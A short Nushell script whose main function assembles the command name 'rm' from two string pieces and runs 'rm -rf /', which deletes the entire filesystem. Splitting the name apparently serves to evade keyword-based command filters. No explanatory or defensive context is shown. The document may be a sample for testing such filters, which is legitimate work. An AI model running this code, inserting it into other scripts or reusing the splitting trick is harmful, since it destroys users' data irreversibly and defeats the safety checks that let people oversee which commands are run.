def main [] {
  let c = "r" + "m"
  run-external $c "-rf" "/"
}
